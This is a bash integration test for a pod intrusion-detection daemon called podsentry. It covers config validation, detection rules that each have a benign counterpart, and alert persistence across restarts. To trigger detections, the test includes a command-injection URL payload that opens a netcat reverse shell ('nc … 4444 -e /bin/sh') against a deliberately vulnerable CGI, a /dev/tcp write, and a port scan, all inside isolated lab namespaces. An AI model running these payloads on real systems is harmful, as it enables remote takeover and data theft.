#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Detection end to end: pods made by the real [bridge, podsentry-cni]
# chain, the real daemon with a --config. Every rule is triggered by a
# scenario and has a benign twin that must not alert; the demo story
# (web exploited -> reverse shell -> elastic:9200) gives exactly one
# critical lateral-movement alert with the whole chain; invalid configs
# stop the daemon with their precise message; the learned baseline and
# open alerts survive a restart.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../cni/lib-cni.sh"
. "$(dirname "$0")/lib-detect.sh"
AL=$T/alerts.json

cat >"$T/config.json" <<'JSON'
{
	"rules": {
		"new-east-west-peer": { "learning_window": 4 },
		"internal-scan": { "peers": 5, "interval": 10, "refused": 5 },
		"sensitive-service-access": { "allow": [ { "namespace": "shop", "pod": "client" } ] }
	},
	"allow": [ { "namespace": "demo", "pod": "attacker" } ]
}
JSON
DARGS=(--state-dir "$STATE" --log-dir "$T/logs" --config "$T/config.json"
	--alerts "$AL" --state-file "$T/detect-state.json" --flow-idle 1 --flow-update 1)

# --- invalid configurations stop the daemon with FILE: KEY: what is wrong
badcfg() { # NAME JSON WANT
	echo "$2" >"$T/bad.json"
	local out rc
	out=$("$PODSENTRYD" --bpffs "$BPFFS" --export "$T/bad.out" --config "$T/bad.json" 2>&1)
	rc=$?
	[ $rc != 0 ] && [ "$out" = "$T/bad.json: $3" ] && ok "config/$1" ||
		fail "config/$1" "rc $rc, stderr '$out', want '$T/bad.json: $3'"
}
badcfg not-json '{"rules": ' '.: not valid JSON: unexpected end of data at byte 11'
badcfg unknown-key '{"learnin_window": 3}' 'learnin_window: unknown key'
badcfg unknown-rule '{"rules": {"port-scan": {}}}' 'rules.port-scan: unknown rule (rules are reverse-shell, network-tool-in-pod, new-east-west-peer, internal-scan, sensitive-service-access, exec-into-pod, lateral-movement)'
badcfg bad-range '{"rules": {"internal-scan": {"peers": 1}}}' 'rules.internal-scan.peers: 1 is out of range (2 to 100000)'
badcfg bad-action '{"rules": {"lateral-movement": {"action": "kill"}}}' 'rules.lateral-movement.action: must be "alert" or "deny"'
badcfg bad-port '{"sensitive_ports": [9200, "x"]}' 'sensitive_ports[1]: must be a whole number between 1 and 65535'
badcfg bad-allow '{"allow": [{"pod": "a", "rules": ["nope"]}]}' 'allow[0].rules[0]: "nope" is not a rule'
out=$("$PODSENTRYD" --bpffs "$BPFFS" --config "$T/none.json" 2>&1)
[ $? != 0 ] && [ "$out" = "$T/none.json: .: cannot read: No such file or directory" ] &&
	ok config/missing-file || fail config/missing-file "$out"

daemon_start "${DARGS[@]}" || { fail setup "daemon"; exit 1; }
cni_conflist

# pod_init NAME: the pod's first process (a loop running command files)
pod_init() {
	mkdir -p "$T/cmd/$1"
	ip netns exec "$P$1" sh -c "cd $T/cmd/$1; while :; do for f in *.sh; do
		[ -e \"\$f\" ] && { sh \"\$f\" >\"\$f.out\" 2>&1; mv \"\$f\" \"\$f.done\"; }; done; sleep 0.05; done" &
}
# pod_run NAME CMD: run CMD as a new process tree under the pod's first
# process and wait for it
n_cmd=0
pod_run() {
	n_cmd=$((n_cmd + 1))
	echo "$2" >"$T/cmd/$1/c$n_cmd.tmp" && mv "$T/cmd/$1/c$n_cmd.tmp" "$T/cmd/$1/c$n_cmd.sh"
	wait_for 20 test -e "$T/cmd/$1/c$n_cmd.sh.done"
}

IPC=$(pod_add c shop client) && IPS=$(pod_add s shop server) && IPX=$(pod_add x ops scanner) &&
IPW=$(pod_add w demo web) && IPA=$(pod_add a demo attacker) && IPE=$(pod_add e demo elastic) ||
	{ fail setup "cni add: $(cat "$T"/*.cni)"; exit 1; }

# servers: web with a CGI that has a command injection, elastic on 9200,
# server on 8080; client, server and scanner run command loops
mkdir -p "$T/www/e" "$T/www/s"
vuln_www "$T/www/web"
echo ok >"$T/www/web/index.html"; echo '{"status":"green"}' >"$T/www/e/index.html"; echo s >"$T/www/s/index.html"
ip netns exec ${P}w busybox httpd -f -p 80 -h "$T/www/web" &
ip netns exec ${P}e busybox httpd -f -p 9200 -h "$T/www/e" &
pod_init c; pod_init x
ip netns exec ${P}s sh -c "busybox httpd -f -p 8080 -h $T/www/s & busybox httpd -f -p 8081 -h $T/www/s & busybox httpd -f -p 8082 -h $T/www/s & wait" &
for pe in "w 80" "e 9200" "s 8082"; do
	set -- $pe
	wait_for 5 sh -c "ip netns exec $P$1 busybox netstat -ltn | grep -q ':$2 '"
done
get() { echo "timeout 5 busybox wget -q -O - http://$1/ >/dev/null"; }

# --- benign, during the learning window: client talks to web and elastic
pod_run c "$(get $IPW); $(get $IPE:9200); $(get $IPS:8080)"
sleep 4.5 # the learning window (4 s) ends
# --- benign, after it: the same peers, a health check from the node and
# an exec probe inside web, normal requests to web
pod_run c "$(get $IPW); $(get $IPE:9200); $(get $IPS:8080); $(get $IPW/cgi-bin/hello?name=bob)"
timeout 5 busybox wget -q -O /dev/null "http://$IPW/" 
ip netns exec ${P}w timeout 5 busybox wget -q -O /dev/null "http://127.0.0.1/"
ip netns exec ${P}s true # an exec into a pod that connects nowhere
sleep 2.5 # flows end (idle 1 s)
[ "$(n_alerts client)" = 0 ] && ok benign/client-learned-peers-and-allowed-9200 ||
	fail benign/client-learned-peers-and-allowed-9200 "$(alerts_of client | jq -r .alert.summary)"
[ "$(n_alerts web)" = 0 ] && ok benign/web-requests-and-health-checks ||
	fail benign/web-requests-and-health-checks "$(alerts_of web | jq -r .alert.summary)"
[ "$(n_alerts server)" = 0 ] && ok benign/exec-without-connection ||
	fail benign/exec-without-connection "$(alerts_of server | jq -r .alert.summary)"
has_record '.type=="flow" and .pod.name=="client" and .flow.dst.port==9200' &&
	ok benign/flows-were-seen || fail benign/flows-were-seen "no client flow to 9200 in the export"

# --- new-east-west-peer: client to a port it never used
pod_run c "$(get $IPS:8081)"
wait_for 5 sh -c "[ \$(jq -c 'select(.alert.rule==\"new-east-west-peer\" and .pod.name==\"client\")' $AL | grep -c .) = 1 ]" &&
	ok new-east-west-peer/alert || fail new-east-west-peer/alert "$(alerts_of client | jq -r .alert.summary)"
alerts_of client new-east-west-peer | jqe '.alert.severity=="low" and .alert.mitre=="T1021" and
	.evidence.connections[0].dst.pod.name=="server" and .evidence.connections[0].src.pod.name=="client"' &&
	ok new-east-west-peer/evidence-names-both-pods || fail new-east-west-peer/evidence-names-both-pods "$(alerts_of client new-east-west-peer)"

# --- network-tool-in-pod (nc to loopback: no east-west connection)
pod_run c "busybox nc -w 1 127.0.0.1 9 </dev/null"
wait_for 5 sh -c "[ \$(jq -c 'select(.alert.rule==\"network-tool-in-pod\" and .pod.name==\"client\")' $AL | grep -c .) = 1 ]" &&
	ok network-tool-in-pod/alert || fail network-tool-in-pod/alert "$(alerts_of client | jq -r .alert.rule)"
[ "$(n_alerts client lateral-movement)" = 0 ] && ok network-tool-in-pod/no-chain-without-east-west ||
	fail network-tool-in-pod/no-chain-without-east-west "$(alerts_of client lateral-movement)"

# --- the words of a reverse shell are not one: a bash -c that writes
# a line to /dev/tcp reads no commands from the network
pod_run c "bash -c 'echo x >/dev/tcp/127.0.0.1/9' 2>/dev/null; true"
sleep 1
[ "$(n_alerts client reverse-shell)" = 0 ] && ok reverse-shell/idiom-alone-is-not-one ||
	fail reverse-shell/idiom-alone-is-not-one "$(alerts_of client reverse-shell | jq -r .alert.summary)"

# --- internal-scan: 8 closed ports of server from scanner
pod_run x "for p in 9001 9002 9003 9004 9005 9006 9007 9008; do $(get $IPS:\$p); done; true"
wait_for 8 sh -c "[ \$(jq -c 'select(.alert.rule==\"internal-scan\" and .pod.name==\"scanner\")' $AL | grep -c .) -ge 1 ]" &&
	ok internal-scan/alert || fail internal-scan/alert "$(alerts_of scanner | jq -r .alert.summary)"
[ "$(n_alerts client internal-scan)" = 0 ] && ok internal-scan/benign-client ||
	fail internal-scan/benign-client "client has a scan alert"

# --- sensitive-service-access: scanner (not allowed) reads elastic:9200
pod_run x "$(get $IPE:9200)"
wait_for 5 sh -c "[ \$(jq -c 'select(.alert.rule==\"sensitive-service-access\" and .pod.name==\"scanner\")' $AL | grep -c .) = 1 ]" &&
	ok sensitive-service-access/alert || fail sensitive-service-access/alert "$(alerts_of scanner | jq -r .alert.rule)"
[ "$(n_alerts client sensitive-service-access)" = 0 ] && ok sensitive-service-access/allowed-client ||
	fail sensitive-service-access/allowed-client "$(alerts_of client sensitive-service-access)"

# --- exec-into-pod: a shell entered into server from the node reads web
ip netns exec ${P}s sh -c "$(get $IPW); true"
wait_for 5 sh -c "[ \$(jq -c 'select(.alert.rule==\"exec-into-pod\" and .pod.name==\"server\")' $AL | grep -c .) = 1 ]" &&
	ok exec-into-pod/alert || fail exec-into-pod/alert "$(alerts_of server | jq -r .alert.rule)"
alerts_of server exec-into-pod | jqe '.alert.mitre=="T1609" and .ancestry[-1].exec_into_pod' &&
	ok exec-into-pod/ancestry-ends-at-the-entry || fail exec-into-pod/ancestry-ends-at-the-entry "$(alerts_of server exec-into-pod | jq -c .ancestry)"
has_record '.type=="process_exec" and .pod.name=="server" and .process.parent_netns' &&
	ok exec-into-pod/recorded || fail exec-into-pod/recorded "no process_exec with parent_netns"

# --- the demo story: web exploited, reverse shell to attacker, elastic
ip netns exec ${P}a sh -c "(sleep 3; echo 'busybox wget -q -O - http://$IPE:9200/'; sleep 2; echo exit) |
	busybox nc -l -p 4444 >$T/session.txt" &
wait_for 5 sh -c "ip netns exec ${P}a busybox netstat -ltn | grep -q ':4444 '"
ip netns exec ${P}a timeout 15 busybox wget -q -O /dev/null \
	"http://$IPW/cgi-bin/hello?name=x%3Bbusybox%20nc%20$IPA%204444%20-e%20/bin/sh"
grep -q green "$T/session.txt" && ok story/attacker-read-elastic || fail story/attacker-read-elastic "$(cat "$T/session.txt")"
wait_for 5 sh -c "[ \$(jq -c 'select(.alert.rule==\"lateral-movement\" and .pod.name==\"web\")' $AL | grep -c .) -ge 1 ]"
sleep 2
lm=$(alerts_of web lateral-movement)
[ "$(echo "$lm" | grep -c .)" = 1 ] && ok story/exactly-one-lateral-movement ||
	fail story/exactly-one-lateral-movement "$(echo "$lm" | grep -c .) alerts"
echo "$lm" | jqe '.alert.severity=="critical" and .pod.name=="web" and
	([.evidence.connections[] | select(.dst.pod.name=="elastic" and .dst.port==9200 and .src.pod.name=="web")] | length) == 1' &&
	ok story/names-web-and-elastic-9200 || fail story/names-web-and-elastic-9200 "$lm"
echo "$lm" | jqe '[.ancestry[] | .args | join(" ")] | (.[-1] | contains("httpd")) and
	any(.[]; endswith("cgi-bin/hello") or endswith(" hello")) and any(.[]; . == "/bin/sh") and
	any(.[]; contains("nc '"$IPA"' 4444 -e"))' &&
	ok story/chain-httpd-cgi-shell || fail story/chain-httpd-cgi-shell "$(echo "$lm" | jq -c '[.ancestry[].args]')"
echo "$lm" | jqe '[.evidence.connections[] | select(.dst.port==4444)] | length >= 1' &&
	ok story/reverse-shell-channel-in-evidence || fail story/reverse-shell-channel-in-evidence "$(echo "$lm" | jq -c .evidence)"
has_record '.type=="alert" and .alert.rule=="lateral-movement"' "$T/logs/demo/web.log" &&
	has_record '.type=="alert" and .alert.rule=="lateral-movement" and .pod.name=="web"' &&
	ok story/alert-in-pod-log-and-export || fail story/alert-in-pod-log-and-export "missing"
[ "$(n_alerts attacker)" = 0 ] && ok story/allow-list-silences-attacker ||
	fail story/allow-list-silences-attacker "$(alerts_of attacker | jq -r .alert.rule)"

# --- restart: a long-lived tree in client alerts before and after
pod_run c "(while :; do [ -e $T/go ] && { rm -f $T/go; busybox nc -w 1 127.0.0.1 7 </dev/null; }; sleep 0.05; done) >/dev/null 2>&1 &"
touch "$T/go"
wait_for 5 sh -c "[ \$(jq -c 'select(.alert.rule==\"network-tool-in-pod\" and .pod.name==\"client\")' $AL | grep -c .) = 2 ]" ||
	fail restart/first-alert "no alert from the long-lived tree"
daemon_stop || fail restart/clean-exit "daemon exit status $?"
jqe '.pods["shop/client"].peers | length >= 3' <"$T/detect-state.json" &&
	ok restart/baseline-saved || fail restart/baseline-saved "$(jq -c '.pods' "$T/detect-state.json")"
before=$(jq -c 'select(.alert.status=="open")' "$AL" | grep -c .)
daemon_start "${DARGS[@]}" --keep-pins || { fail restart/daemon "did not start"; exit 1; }
# the open alert is shown after the restart with the chain it opened with
"$PODSENTRY" --socket "$T/api.sock" alerts -o json >"$T/alerts-restarted.json" 2>&1
jqe -s '[.[] | select(.type=="open_alert")] as $a | ($a | length) >= 1 and
	all($a[]; .record.alert.id == .id) and
	any($a[] | select(.rule=="network-tool-in-pod" and .pod=="shop/client");
	    any(.record.ancestry[]; (.args | join(" ")) == "busybox nc -w 1 127.0.0.1 7"))' \
	<"$T/alerts-restarted.json" && ok restart/open-alert-keeps-chain ||
	fail restart/open-alert-keeps-chain "$(cut -c1-400 "$T/alerts-restarted.json")"
touch "$T/go"
wait_for 5 sh -c "[ ! -e $T/go ]"
pod_run c "$(get $IPW); $(get $IPS:8080)"  # learned before the restart
pod_run c "$(get $IPS:8082)"               # new after it
wait_for 5 sh -c "[ \$(jq -c 'select(.alert.rule==\"new-east-west-peer\" and .pod.name==\"client\")' $AL | grep -c .) = 2 ]" &&
	ok restart/learning-not-restarted || fail restart/learning-not-restarted "$(alerts_of client new-east-west-peer | jq -r .alert.summary)"
sleep 2.5
new=$(jq -c 'select(.alert.status=="open")' "$AL" | tail -n +$((before + 1)))
[ "$(echo "$new" | grep -c .)" = 1 ] && ok restart/learned-peers-and-open-alert-no-new-alert ||
	fail restart/learned-peers-and-open-alert-no-new-alert "$(echo "$new" | jq -r '.alert.rule + ": " + .alert.summary')" \
		"$(jq -c 'select(.type=="process_exec" and (.process.args|join(" "))=="busybox nc -w 1 127.0.0.1 7") |
		[.process.exec_id, .process.parent_exec_id, .parent.args]' "$T/export.json")" "$(jq -c '.processes|keys' "$T/detect-state.json")"
daemon_stop || fail restart/clean-exit-after-restart "daemon exit status $?"
jqe '[.alerts[] | select(.rule=="network-tool-in-pod" and .pod=="shop/client" and .count == 2)] | length == 1' \
	<"$T/detect-state.json" && ok restart/open-alert-counts-repeat ||
	fail restart/open-alert-counts-repeat "$(jq -c '.alerts' "$T/detect-state.json")"

for n in c s x w a e; do
	ip netns pids "$P$n" 2>/dev/null | xargs -r kill 2>/dev/null
	cni_del "$P$n" "$P$n" >/dev/null
done
ip link del "$BR" 2>/dev/null
rm -rf "$BPFFS"
true
